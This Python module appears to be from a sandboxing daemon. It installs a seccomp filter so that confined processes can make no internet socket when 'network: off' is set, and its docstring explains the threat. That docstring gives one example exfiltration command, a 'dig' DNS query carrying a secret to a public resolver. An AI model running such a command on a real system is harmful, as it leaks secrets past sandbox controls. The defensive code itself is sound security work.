"""No internet socket at all under ``network: off``: a seccomp filter on the thread Landlock confines.

Landlock (ABI 4) refuses TCP bind and connect, and nothing else of the network: a confined process could
still send what it read in a UDP datagram — a DNS query to any resolver (``dig @1.1.1.1 <secret>.example``),
QUIC, a syslog packet. Under ``network: off`` the spawner thread therefore also installs a seccomp filter,
inherited by every process it starts, that refuses (EACCES, "Permission denied", as Landlock's refusal):

- ``socket()`` of any family but AF_UNIX and AF_NETLINK (which reach this machine's processes and its
  kernel, not a network): AF_INET and AF_INET6 of every type, AF_PACKET, AF_VSOCK (a virtual machine's
  host), …;
- ``io_uring_setup`` (ENOSYS, which programs take for an old kernel and do without): its IORING_OP_SOCKET
  makes a socket with no ``socket()`` call;
- every system call of another ABI than the native one (x32's numbers, i386's through ``int 0x80``),
  whose numbers this filter does not read.

Unix sockets stay open, as in Codex's own filter: a confined process can still reach a D-Bus or ssh-agent
socket that has a path (docs/security.md, known gaps). The filter is per thread, as Landlock is: the
daemon's other threads keep the network. Built for x86-64 and arm64, the architectures mm runs on; on
another, :func:`restrict_thread` raises Unavailable, as Landlock does where it is missing.
"""

from __future__ import annotations

import ctypes
import errno
import platform

from .landlock import Unavailable, prctl

PR_SET_SECCOMP = 22
SECCOMP_MODE_FILTER = 2
AF_UNIX, AF_NETLINK = 1, 16
SYS_IO_URING_SETUP = 425  # the same number on every architecture (the unified table, Linux 5.1)
X32_SYSCALL_BIT = 0x40000000
# The native audit architecture and the socket system call's number, by `uname -m`.
ARCHES = {"x86_64": (0xC000003E, 41), "aarch64": (0xC00000B7, 198)}

# Classic BPF, as seccomp runs it over struct seccomp_data {int nr; u32 arch; u64 ip; u64 args[6]}.
_LD_W_ABS, _JEQ_K, _JGE_K, _RET_K = 0x20, 0x15, 0x35, 0x06
_NR, _ARCH, _ARG0 = 0, 4, 16  # offsets; args[0]'s low half on a little-endian machine
_ALLOW = 0x7FFF0000
_REFUSE = 0x00050000 | errno.EACCES
_NOSYS = 0x00050000 | errno.ENOSYS


class _Instruction(ctypes.Structure):
    _fields_ = (
        ("code", ctypes.c_uint16),
        ("jt", ctypes.c_uint8),
        ("jf", ctypes.c_uint8),
        ("k", ctypes.c_uint32),
    )


class _Program(ctypes.Structure):
    _fields_ = (("len", ctypes.c_ushort), ("filter", ctypes.POINTER(_Instruction)))


def program(machine: str) -> list[tuple[int, int, int, int]]:
    """The filter for *machine* (``uname -m``), as (code, jump if true, jump if false, k) instructions.

    Errors: Unavailable for an architecture this module has no numbers for."""
    if machine not in ARCHES:
        raise Unavailable(f"network: off has no socket filter for this architecture ({machine})")
    arch, socket_nr = ARCHES[machine]
    steps = [
        (_LD_W_ABS, 0, 0, _ARCH),
        (_JEQ_K, 1, 0, arch),
        (_RET_K, 0, 0, _REFUSE),  # another ABI: its numbers are not these
        (_LD_W_ABS, 0, 0, _NR),
    ]
    if machine == "x86_64":  # x32's numbers carry a bit of their own under the same architecture
        steps += [(_JGE_K, 0, 1, X32_SYSCALL_BIT), (_RET_K, 0, 0, _REFUSE)]
    steps += [
        (_JEQ_K, 0, 1, SYS_IO_URING_SETUP),
        (_RET_K, 0, 0, _NOSYS),
        (_JEQ_K, 1, 0, socket_nr),
        (_RET_K, 0, 0, _ALLOW),
        (_LD_W_ABS, 0, 0, _ARG0),
        (_JEQ_K, 2, 0, AF_UNIX),
        (_JEQ_K, 1, 0, AF_NETLINK),
        (_RET_K, 0, 0, _REFUSE),
        (_RET_K, 0, 0, _ALLOW),
    ]
    return steps


def restrict_thread() -> None:
    """Install the filter on the calling thread, for good; it and all it starts from now on make no socket
    but a local one. ``no_new_privs`` must be set already (landlock.restrict_thread sets it).

    Errors: Unavailable for an architecture without numbers here, or a kernel that refuses the filter
    (no CONFIG_SECCOMP_FILTER, or a container that forbids it)."""
    steps = program(platform.machine())
    instructions = (_Instruction * len(steps))(*(_Instruction(*step) for step in steps))
    prog = _Program(len(steps), instructions)
    if prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, ctypes.byref(prog), 0, 0) != 0:
        code = ctypes.get_errno()
        raise Unavailable(
            f"network: off needs a seccomp filter, which this kernel refused ({errno.errorcode.get(code, code)})"
        )
